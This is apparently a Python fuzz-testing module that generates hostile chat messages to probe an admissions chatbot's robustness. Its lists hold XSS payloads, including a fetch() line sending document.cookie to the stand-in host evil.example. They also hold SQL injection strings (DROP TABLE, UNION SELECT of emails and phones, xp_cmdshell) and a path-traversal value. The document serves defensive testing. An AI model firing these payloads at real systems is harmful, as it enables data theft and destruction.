"""Hostile message texts, one generator per kind of hostile input.

Each generator takes a seeded `random.Random`, so a run with the same seed sends exactly the
same messages and a failure can be replayed. Most texts are built around a question the bot
does answer, so NLU, the policies and the custom actions run on them rather than stopping at
the first unknown token.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence

# Ordinary questions the hostile parts are wrapped around.
QUESTIONS = (
    "how much is tuition for computer science?",
    "how long does the software development degree take?",
    "can an advisor call me?",
    "when can I start?",
    "what do machine learning engineers earn?",
    "hello",
    "yes",
    "Jordan Lee",
    "jordan.lee@example.com",
)

# Lengths of the very long messages: just over the channel's 1,000-character default, the
# protocol's 30,000 and 100,000 (which also exceeds the 64 KiB request limit).
LONG_LENGTHS = (1_001, 5_000, 30_000, 100_000)

WHITESPACE = (
    " ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "\x0b",
    "\x0c",
    "\u00a0",
    "\u1680",
    "\u2002",
    "\u2003",
    "\u2009",
    "\u200a",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2028",
    "\u2029",
    "\u202f",
    "\u205f",
    "\u3000",
    "\ufeff",
    "\u180e",
)

CONTROL = tuple(chr(code) for code in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)])

RIGHT_TO_LEFT = (
    "كم تكلفة الدراسة في علوم الحاسوب؟",
    "متى يمكنني أن أبدأ؟",
    "כמה עולה שכר הלימוד?",
    "אני רוצה לדבר עם יועץ",
    "شهریه رشته کامپیوتر چقدر است؟",
    "ٹیوشن کتنی ہے؟",
)
BIDI_CONTROLS = (
    "\u202e",
    "\u202d",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
)

EMOJI = (
    "🎓",
    "💸",
    "📅",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇺🇸",
    "🇲🇽",
    "👍🏽",
    "1️⃣",
    "🤖",
    "🧑🏿‍💻",
    "❤️‍🔥",
    "🫠",
    "🦄",
    "💩",
    "😀" * 50,
    "𝕥𝕦𝕚𝕥𝕚𝕠𝕟",
    "🅲🅾🆄🆁🆂🅴",
)
# Halves of a surrogate pair on their own: valid inside a JSON string ("\ud83c"), but not
# Unicode text; anything that encodes them to UTF-8 unguarded fails.
LONE_SURROGATES = ("\ud83c", "\udf93", "\ud800", "\udfff")

OTHER_SCRIPTS = (
    "计算机科学的学费是多少？",
    "コンピュータサイエンスの学費はいくらですか",
    "컴퓨터 과학 등록금은 얼마입니까?",
    "Сколько стоит обучение?",
    "Πόσο κοστίζουν τα δίδακτρα;",
    "कंप्यूटर विज्ञान की फीस कितनी है?",
    "ค่าเล่าเรียนเท่าไหร่",
    "የትምህርት ክፍያ ስንት ነው?",
    "கல்விக் கட்டணம் எவ்வளவு?",
    "Học phí ngành khoa học máy tính là bao nhiêu?",
    "ｈｏｗ　ｍｕｃｈ　ｉｓ　ｔｕｉｔｉｏｎ",  # full-width Latin
    "how much is tuіtіon for соmputer science",  # Cyrillic look-alikes
    "Z̸̢͓̈́a̷̱͠l̶̜̓g̵̰͝o̴̗͌ tuition",  # stacked combining marks
    "ᚻᛖ ᚳᚹᚫᚦ ᚦᚫᛏ",
    "𐌰𐌹𐌺𐌰𐌽 𐍃𐌺𐌿𐌻𐌰",
)

MARKUP = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<iframe src=\"javascript:alert('x')\"></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "[click me](javascript:alert(1))",
    "<style>body{display:none}</style>",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "<!--",
    "<body onload=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE events; --",
    "'; DROP TABLE appointment; --",
    "1; SELECT * FROM lead --",
    "' UNION SELECT email, phone FROM lead --",
    "admin'--",
    "'; UPDATE appointment_slot SET starts_at = NULL; --",
    "%' AND 1=0 UNION ALL SELECT sender_id, data FROM events WHERE '%'='",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "' || (SELECT sqlite_version()) || '",
    '{"$gt": ""}',
    "computer science'); DELETE FROM program; --",
)

BOGUS_INTENTS = (
    "nonexistent_intent",
    "",
    "../../etc/passwd",
    "restart",
    "session_start",
    "back",
    "nlu_fallback",
    "action_restart",
    "utter_greet",
    "x" * 1_000,
    "ínfórm",
    "inform inform",
    "book_counselor;DROP TABLE events",
    "<script>",
)
BOGUS_ENTITIES = (
    "slot_id",
    "unknown_entity",
    "requested_slot",
    "booking_confirmed",
    "full_name",
    "email",
    "client_id",
    "",
    "<b>",
)
BOGUS_VALUES: tuple[object, ...] = (
    99999,
    -1,
    0,
    2**63,
    1.5,
    "99999",
    "-1",
    "abc",
    "",
    None,
    True,
    [],
    [1, 2, 3],
    {"nested": {"deeper": [1, {"x": None}]}},
    "x" * 5_000,
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "\u0000",
    "1e999",
)
BOGUS_SLOT_IDS = (
    99999,
    "99999",
    0,
    -1,
    "-1",
    "abc",
    "",
    None,
    2**63,
    "1 OR 1=1",
    [1, 2],
    {"id": 1},
)
# Raw tails after `/intent`: entity JSON that is broken, not an object, or nested deep.
BROKEN_ENTITY_JSON = (
    '{"slot_id":',
    "{'slot_id': 1}",
    '{"slot_id": 1}}',
    "[]",
    '"slot_id"',
    "null",
    '{"slot_id": 1e999}',
    '{"slot_id": NaN}',
    "{" * 3,
    '{"a":' * 2_000 + "1" + "}" * 2_000,
    '{"slot_id": "\\ud800"}',
    "{}",
)
CONFIDENCES = ("", "", "", "@0.99", "@1", "@1e9", "@-5", "@nan", "@abc", "@")


def _around(rng: random.Random, hostile: str) -> str:
    """``hostile`` alone, or before, after or inside an ordinary question."""
    question = rng.choice(QUESTIONS)
    cut = rng.randrange(len(question) + 1)
    return rng.choice(
        (
            hostile,
            f"{hostile} {question}",
            f"{question} {hostile}",
            question[:cut] + hostile + question[cut:],
        )
    )


def empty(rng: random.Random) -> str:
    return ""


def whitespace(rng: random.Random) -> str:
    return "".join(rng.choice(WHITESPACE) for _ in range(rng.choice((1, 2, 5, 40, 900))))


def very_long(rng: random.Random) -> str:
    length = rng.choice(LONG_LENGTHS)
    unit = rng.choice(
        (rng.choice(QUESTIONS) + " ", "a", "🎓", "计算机 ", "<b>x</b>", "' OR 1=1 -- ")
    )
    return (unit * (length // len(unit) + 1))[:length]


def control_characters(rng: random.Random) -> str:
    noise = "".join(rng.choice(CONTROL) for _ in range(rng.randint(1, 30)))
    return _around(rng, noise)


def right_to_left(rng: random.Random) -> str:
    return rng.choice(
        (
            rng.choice(RIGHT_TO_LEFT),
            _around(rng, rng.choice(RIGHT_TO_LEFT)),
            rng.choice(BIDI_CONTROLS) + rng.choice(QUESTIONS),
            "".join(rng.choice(BIDI_CONTROLS) for _ in range(rng.randint(1, 20)))
            + rng.choice(QUESTIONS),
            _around(rng, "\u202e" + "moc.elpmaxe@live"),
        )
    )


def emoji(rng: random.Random) -> str:
    picked = "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 6)))
    if rng.random() < 0.15:
        picked += rng.choice(LONE_SURROGATES)
    return _around(rng, picked)


def other_scripts(rng: random.Random) -> str:
    return (
        _around(rng, rng.choice(OTHER_SCRIPTS)) if rng.random() < 0.5 else rng.choice(OTHER_SCRIPTS)
    )


def markup(rng: random.Random) -> str:
    return _around(rng, rng.choice(MARKUP))


def sql(rng: random.Random) -> str:
    return _around(rng, rng.choice(SQL))


def forged_intent(
    rng: random.Random, intents: Sequence[str] = (), entities: Sequence[str] = ()
) -> str:
    """`/intent{json}` as a button payload would send it, with intents, entities and values that
    the domain has, has not, or cannot have."""
    if rng.random() < 0.25:  # the booking form's time buttons, `/inform{"slot_id":"123"}`, forged
        return "/inform" + json.dumps({"slot_id": rng.choice(BOGUS_SLOT_IDS)})
    intent = rng.choice(tuple(intents) + BOGUS_INTENTS) if intents else rng.choice(BOGUS_INTENTS)
    confidence = rng.choice(CONFIDENCES)
    shape = rng.random()
    if shape < 0.15:
        tail = ""
    elif shape < 0.35:
        tail = rng.choice(BROKEN_ENTITY_JSON)
    else:
        names = tuple(entities) + BOGUS_ENTITIES
        values = {rng.choice(names): _bogus_value(rng) for _ in range(rng.randint(1, 3))}
        tail = json.dumps(values, ensure_ascii=rng.random() < 0.5)
        tail = tail.replace('"1e999"', "1e999")  # a number JSON can spell but not hold
    return f"/{intent}{confidence}{tail}"


def _bogus_value(rng: random.Random) -> object:
    return rng.choice(BOGUS_VALUES)


TextGenerator = Callable[[random.Random], str]

# The kinds of text the fuzz sends as a message, in the order the report lists them.
TEXT_KINDS: dict[str, TextGenerator] = {
    "empty": empty,
    "whitespace": whitespace,
    "very_long": very_long,
    "control_characters": control_characters,
    "right_to_left": right_to_left,
    "emoji": emoji,
    "other_scripts": other_scripts,
    "markup": markup,
    "sql": sql,
    "forged_intent": forged_intent,
}
